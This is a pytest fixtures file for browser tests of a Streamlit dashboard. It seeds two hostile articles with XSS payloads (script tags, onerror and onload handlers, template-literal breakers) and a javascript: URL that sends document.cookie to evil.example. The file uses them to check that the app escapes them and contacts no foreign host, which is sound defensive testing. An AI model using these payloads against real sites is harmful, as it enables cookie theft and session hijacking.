"""Fixtures for the browser tests: a real `streamlit run` server and Chromium with an offline CDN.

* ``articles_dir`` (session): a temporary copy of the articles the app reads (default: the repo's
  ``seeds/``; override with ``DURAND_E2E_ARTICLES``) plus two hostile articles (``hostile_article``,
  ``hostile_article_urls``: script/event-handler HTML, ``</script>``, template-literal breakers and
  javascript:/data: URLs in title, outlet, url and body).
* ``app_server`` (session, tests/e2e/server.py): ``python -m streamlit run dashboard/serve.py`` on a free loopback port with
  ``DURAND_ARTICLES_DIR`` set; waits for ``/_stcore/health``; always killed at the end; its log is
  printed when startup or any test failed.
* ``browser`` (session): Debian's Chromium (``/usr/bin/chromium``; the test FAILS if it is missing).
* ``context``/``page`` (per test): every request goes through :class:`tests.e2e.cdn.OfflineCDN`;
  at teardown the test fails if the page asked a foreign host for something that was not served
  locally, if a JS dialog (alert/confirm/prompt) opened, or if document.title was rewritten.
"""

from __future__ import annotations

import os
import shutil
import time
from pathlib import Path

import pytest

from .cdn import OfflineCDN
from .server import (  # noqa: F401 (re-exported for the tests)
    APP,
    CHROMIUM,
    CHROMIUM_ARGS,
    REPO,
    AppServer,
    PageGuard,
    ServerFailed,
    free_port,
    running_app,
)

HOSTILE_STEM = "zz_hostile"
HOSTILE_TITLE = """<img src=x onerror="document.title='pwned'">"""
HOSTILE_MARK = "E2E-hostile"  # unique text to find the hostile incident on the map
HOSTILE_OUTLET = HOSTILE_MARK + " ${alert(1)} `outlet`"
HOSTILE_SENTENCE = (
    "Pakistani artillery shelled positions in Barmal district of Paktika province on Monday, "
    "killing three people."
)


# A second hostile article: every field (title, outlet, url, body) carries script tags, event
# handlers, `</script>`, template-literal breakers and javascript:/data: URLs. Every payload that
# could run sets window.__xss, calls alert() or asks a foreign host for something.
HOSTILE2_STEM = "zz_hostile_urls"
HOSTILE2_MARK = "E2E-hostile-urls"
HOSTILE2_TITLE = (
    "</script><script>window.__xss=1</script> `${window.__xss=2}` "
    '<svg onload="window.__xss=3"></svg> <a href="javascript:window.__xss=4">t</a>'
)
HOSTILE2_OUTLET = HOSTILE2_MARK + " <b onmouseover=alert(5)>o</b> ${alert(6)} javascript:alert(7)"
HOSTILE2_URL = "javascript:fetch('https://evil.example/steal?c='+document.cookie)"
HOSTILE2_SENTENCE = "Pakistani drones struck a house in Spin Boldak district of Kandahar province on Tuesday, killing two people."


def hostile_article_urls() -> str:
    import yaml

    front = yaml.safe_dump(
        {"title": HOSTILE2_TITLE, "outlet": HOSTILE2_OUTLET, "url": HOSTILE2_URL, "published": "2025-10-16"},
        allow_unicode=True,
        sort_keys=False,
        width=10_000,
    )
    return (
        f"---\n{front}---\n{HOSTILE2_SENTENCE}\n"
        'See <a href="javascript:window.__xss=8">this</a>, <img src="https://evil.example/x.png" '
        'onerror="window.__xss=9"> and data:text/html,<script>window.__xss=10</script> `${window.__xss=11}`.\n'
    )


def hostile_article() -> str:
    """An article whose every field tries to inject HTML/JS; its first sentence is an incident."""
    import yaml

    front = yaml.safe_dump(
        {
            "title": HOSTILE_TITLE,
            "outlet": HOSTILE_OUTLET,
            "url": "https://example.org/news/1",
            "published": "2025-10-15",
        },
        allow_unicode=True,
        sort_keys=False,
    )
    return f"---\n{front}---\n{HOSTILE_SENTENCE}\nOfficials said </script><script>alert(1)</script> nothing else.\n"


# -- failure bookkeeping (to print the server log only when something failed) ------------------
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    if report.failed:
        item.session.config._e2e_failed = True  # type: ignore[attr-defined]
    setattr(item, f"rep_{report.when}", report)


# -- the app -----------------------------------------------------------------------------------
@pytest.fixture(scope="session")
def articles_dir(tmp_path_factory) -> Path:
    source = Path(os.environ.get("DURAND_E2E_ARTICLES", REPO / "seeds"))
    target = tmp_path_factory.mktemp("articles") / "articles"
    shutil.copytree(source, target)
    (target / f"{HOSTILE_STEM}.md").write_text(hostile_article(), encoding="utf-8")
    (target / f"{HOSTILE2_STEM}.md").write_text(hostile_article_urls(), encoding="utf-8")
    return target


@pytest.fixture(scope="session")
def app_server(request, articles_dir, tmp_path_factory):
    log_path = tmp_path_factory.mktemp("server") / "streamlit.log"
    try:
        # DURAND_GEOJSON dropped: the app must read the articles, not a prebuilt file.
        with running_app(
            log_path,
            {"DURAND_ARTICLES_DIR": str(articles_dir)},
            drop_env=("DURAND_GEOJSON",),
            articles=articles_dir,
        ) as server:
            try:
                yield server
            finally:
                if getattr(request.config, "_e2e_failed", False):
                    print(f"\n===== streamlit server log ({log_path}) =====\n{server.log()}")
    except ServerFailed as exc:
        pytest.fail(str(exc))


# -- the browser: one session-wide Chromium shared with tests/load (tests/conftest.py) -----------


@pytest.fixture
def cdn() -> OfflineCDN:
    return OfflineCDN()


@pytest.fixture
def guard(cdn) -> PageGuard:
    return PageGuard(cdn)


@pytest.fixture
def context(browser, cdn, guard):
    ctx = browser.new_context(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
    ctx.set_default_timeout(30_000)
    cdn.install(ctx)
    ctx.on("page", guard.watch)
    try:
        yield ctx
    finally:
        ctx.close()


@pytest.fixture
def page(context, guard, request):
    pg = context.new_page()
    yield pg
    # requests still in flight as the test ends (map tiles) reach the offline CDN's route handler
    # only while Playwright runs: pump for up to 3 s so that a loaded machine does not report them
    # as "not intercepted" (real leaks and unrouted hosts stay and are reported below)
    deadline = time.monotonic() + 3
    while guard.problems() and time.monotonic() < deadline:
        try:
            pg.wait_for_timeout(100)
        except Exception:  # noqa: BLE001 - a closed page is judged as it stands
            break
    titles = []
    for p in context.pages:
        try:
            titles.append(p.title())
        except Exception:  # noqa: BLE001
            pass
    problems = guard.problems() + [f"document.title rewritten: {t!r}" for t in titles if "pwned" in t]
    if guard.page_errors:
        print("page errors:", *guard.page_errors, sep="\n  ")
    if problems:
        pytest.fail("browser guard:\n  " + "\n  ".join(problems), pytrace=False)


def pytest_collection_modifyitems(items):
    here = Path(__file__).parent
    for item in items:
        if Path(str(item.fspath)).parent == here:
            item.add_marker(pytest.mark.browser)
